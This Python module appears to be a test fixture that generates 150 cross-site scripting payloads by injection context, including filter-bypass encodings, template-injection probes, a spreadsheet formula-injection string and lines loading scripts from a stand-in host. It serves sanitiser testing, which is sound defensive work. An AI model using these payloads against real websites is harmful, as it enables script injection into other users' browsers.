# ruff: noqa: E501 - a payload is one line
"""What strangers write into fields to have it run in the browsers of others: 150 texts, each of which would call `alert`.

Written for these tests, by the places in which a text may land: between tags, in an attribute, behind a link, in a
script or style, in JSON, in a template, and what a repair of broken markup could make of it.
"""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "iframe",
)
_HANDLERS = {
    "img src=x": ("onerror",),
    "svg": ("onload",),
    "body": ("onload", "onpageshow"),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror",),
    "input autofocus": ("onfocus",),
    "details open": ("ontoggle",),
    "marquee": ("onstart",),
    "iframe": ("onload",),
}
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</option></select>", "</td></tr></table>", "-->", "]]>")
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//spel.example/x.js",
    "https:javascript:alert(1)",
    'https://spel.example/"onmouseover="alert(1)',
    "https://spel.example/'onmouseover='alert(1)",
    "https://spel.example/?a=</script><script>alert(1)</script>",
)
_OTHERS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//spel.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import '//spel.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<link rel=stylesheet href=//spel.example/x.css>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<base href=//spel.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//spel.example/'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit autofocus></form>",
    "<form><button formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<area href=javascript:alert(1)>",
    "<button popovertarget=x onclick=alert(1)>x",
    "<p style=\"background:url(javascript:alert(1))\">x",
    "<p style=animation-name:x onanimationstart=alert(1)>x",
    "<table background=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<img src=x:x onerror\x0c=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src='x' onerror='alert`1`'>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<<script>alert(1)//<</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "\u202e<script>alert(1)</script>",
    "\";alert(1);//",
    "';alert(1);//",
    "`;alert(1);//",
    "\\\";alert(1);//",
    "${alert(1)}",
    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{\"a\": \"</script><script>alert(1)</script>\"}",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "x onfocus=alert(1) autofocus tabindex=1",
    "\" autofocus onfocus=alert(1) x=\"",
    "' style='animation-name:x' onanimationstart='alert(1)",
    "expression(alert(1))",
    "-->\"'/></title></style></textarea></script><svg/onload=alert(1)>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "=cmd|' /C calc'!A0<script>alert(1)</script>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    tagged = [
        f"{before}<{tag} {handler}={CALL}>" for before, tag in product(_BREAKS, _TAGS) for handler in _HANDLERS[tag]
    ]
    return list(dict.fromkeys([*_OTHERS, *_SCHEMES, *tagged]))[:150]
